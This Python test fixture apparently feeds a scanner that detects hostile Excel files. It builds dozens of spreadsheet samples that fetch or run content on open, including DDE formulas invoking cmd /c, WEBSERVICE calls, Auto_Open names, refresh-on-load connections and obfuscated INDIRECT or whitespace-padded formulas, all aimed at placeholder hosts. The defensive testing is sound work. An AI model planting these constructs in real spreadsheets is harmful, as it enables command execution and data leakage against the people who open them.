"""Sheets of Excel that fetch or run something when they are opened."""

from tests.foundation.files.office_parts import (
    ELSEWHERE,
    SHARE,
    URL,
    R,
    S,
    Trick,
    book,
    formula,
    outside,
    relations,
    sheet,
)

X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
FETCH = f'WEBSERVICE("{URL}")'


def after(text: str) -> Trick:
    """A sheet with this behind its cells."""
    return Trick("xlsx", {"xl/worksheets/sheet1.xml": sheet(after=text)})


def extended(text: str) -> Trick:
    return after(f'<extLst><ext xmlns:x14="{X14}" xmlns:xm="{XM}">{text}</ext></extLst>')


def scale(value: str) -> str:
    return (
        '<conditionalFormatting sqref="A1"><cfRule type="colorScale"><colorScale>'
        f"<cfvo type='formula' val='{value}'/><cfvo type='max'/></colorScale></cfRule></conditionalFormatting>"
    )


LINKS = '<externalReferences><externalReference r:id="rId9"/></externalReferences>'
SHEET_TRICKS: dict[str, Trick] = {
    "a link to another workbook": book(
        ("rId9", "externalLink", "externalLinks/externalLink1.xml", ""),
        more=LINKS,
        **{
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}" xmlns:r="{R}">'
            '<externalBook r:id="rId1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": outside("externalLinkPath"),
        },
    ),
    "a link of DDE": book(
        ("rId9", "externalLink", "externalLinks/externalLink1.xml", ""),
        more=LINKS,
        **{
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}">'
            f'<ddeLink ddeService="cmd" ddeTopic="{ELSEWHERE}"/></externalLink>'
        },
    ),
    "a connection": book(
        ("rId9", "connections", "connections.xml", ""),
        **{
            "xl/connections.xml": f'<connections xmlns="{S}"><connection id="1" refreshOnLoad="1">'
            f'<webPr url="{URL}"/></connection></connections>'
        },
    ),
    "buttons of its own": Trick(
        "xlsx",
        {
            "_rels/.rels": relations(
                ("rId1", "officeDocument", "xl/workbook.xml", ""),
                ("rId2", "extensibility", "customUI/x.xml", ""),
            ),
            "customUI/x.xml": f'<customUI xmlns="urn:x" onLoad="{URL}"/>',
        },
    ),
    "a picture under the cells": Trick(
        "xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet(after='<picture r:id="rId1"/>'),
            "xl/worksheets/_rels/sheet1.xml.rels": outside("image"),
        },
    ),
    "an object from elsewhere": Trick(
        "xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet(
                after='<oleObjects><oleObject progId="Package" r:id="rId1"/></oleObjects>'
            ),
            "xl/worksheets/_rels/sheet1.xml.rels": outside("oleObject"),
        },
    ),
    "a query": Trick(
        "xlsx",
        {
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                ("rId1", "queryTable", "../queryTables/q.xml", "")
            ),
            "xl/queryTables/q.xml": f'<queryTable xmlns="{S}" name="{ELSEWHERE}" connectionId="1"/>',
        },
    ),
    "a web picture": book(
        ("rId9", "rdRichValueWebImage", "richData/w.xml", ""),
        **{
            "xl/richData/w.xml": f'<webImagesSrd xmlns="urn:x" xmlns:r="{R}"><address r:id="rId1"/></webImagesSrd>',
            "xl/richData/_rels/w.xml.rels": outside("hyperlink"),
        },
    ),
    "a formula of DDE": formula(f"cmd|'/c {ELSEWHERE}'!A0"),
    "a formula of DDE in quotes": formula(f"'cmd|/c {ELSEWHERE}'!A0"),
    "a formula WEBSERVICE": formula(f'_xlfn.WEBSERVICE("{URL}")'),
    "a formula webservice": formula(f'1+webService ("{URL}")'),
    "a formula IMAGE": formula(f'_xlfn.IMAGE("{URL}")'),
    "a formula RTD": formula(f'RTD("a",,"{ELSEWHERE}")'),
    "a formula CALL": formula(f'CALL("a","b","{ELSEWHERE}")'),
    "a formula of another workbook": formula(f"'{SHARE}\\[a.xlsx]b'!A1"),
    "a formula of another web page": formula(f"'{URL}/[a.xlsx]b'!A1"),
    "a formula of a numbered workbook": formula(f'[1]Feuil1!A1&amp;"{ELSEWHERE}"'),
    "a name of DDE": book(
        more=f"<definedNames><definedName name='a'>cmd|'{ELSEWHERE}'!A0</definedName></definedNames>"
    ),
    "a check of cells": Trick(
        "xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet(
                after=f"<dataValidations><dataValidation type='custom' sqref='A1'><formula1>WEBSERVICE(\"{URL}\")"
                "</formula1></dataValidation></dataValidations>"
            )
        },
    ),
    "a formula INDIRECT": formula(f"INDIRECT(\"'https://{ELSEWHERE}/[a.xlsx]b'!A1\")"),
    "a formula INDIRECT in pieces": formula(
        f'SUM(INDIRECT("\'https:"&amp;"//{ELSEWHERE}/[a"&amp;".xlsx]b\'!A1"))'
    ),
    "a formula INDIRECT of a cell": formula(f'INDIRECT(A9)&amp;"{ELSEWHERE}"'),
    "a formula INDIRECT of a sheet that a cell names": formula(
        f'INDIRECT(ADDRESS(1,1,1,1,A9))&amp;"{ELSEWHERE}"'
    ),
    "a formula behind blanks": formula(f'WEBSERVICE{" " * 30}("{URL}")'),
    "a formula between two names": formula(f"'a\"b'!A1&amp;WEBSERVICE(\"{URL}\")&amp;'c\"d'!A1"),
    "a function that another one is given": formula(f'MAP("{URL}",_xleta.WEBSERVICE)'),
    "a formula that asks a cube": formula(f'CUBEVALUE("{ELSEWHERE}","a")'),
    "a scale of colours": after(scale(f"LEN({FETCH})")),
    "a scale of colours, extended": extended(
        f"<x14:conditionalFormatting><x14:cfRule><x14:dataBar><x14:cfvo type='formula'><xm:f>{FETCH}</xm:f></x14:cfvo>"
        "</x14:dataBar></x14:cfRule></x14:conditionalFormatting>"
    ),
    "a small chart in a cell": extended(
        f"<x14:sparklineGroups><x14:sparkline><xm:f>'https://{ELSEWHERE}/[a.xlsx]b'!A1</xm:f></x14:sparkline>"
        "</x14:sparklineGroups>"
    ),
    "a check of cells, extended": extended(
        f"<x14:dataValidations><x14:dataValidation><x14:formula1><xm:f>{FETCH}</xm:f></x14:formula1>"
        "</x14:dataValidation></x14:dataValidations>"
    ),
    "a page that is published": after(
        f"<webPublishItems><webPublishItem destinationFile='{URL}'/></webPublishItems>"
    ),
    "kinds of words": book(
        more=f"<smartTagTypes><smartTagType namespaceUri='urn:x' name='y' url='{URL}'/></smartTagTypes>"
    ),
    "a name that runs": book(
        more=f"<definedNames><definedName name='_xlnm.Auto_Open'>{ELSEWHERE}</definedName></definedNames>"
    ),
    "a chart": Trick(
        "xlsx",
        {
            "xl/charts/chart1.xml": '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
            'xmlns:c15="http://schemas.microsoft.com/office/drawing/2012/chart">'
            f"<c:f>'https://{ELSEWHERE}/[a.xlsx]b'!A1</c:f><c15:f>{FETCH}</c15:f></c:chartSpace>"
        },
    ),
    "an old box": Trick(
        "xlsx",
        {
            "xl/drawings/vmlDrawing1.vml": '<xml xmlns:x="urn:schemas-microsoft-com:office:excel">'
            f"<x:ClientData><x:FmlaMacro>'https://{ELSEWHERE}/[a.xlsm]b'!c</x:FmlaMacro></x:ClientData></xml>"
        },
    ),
}
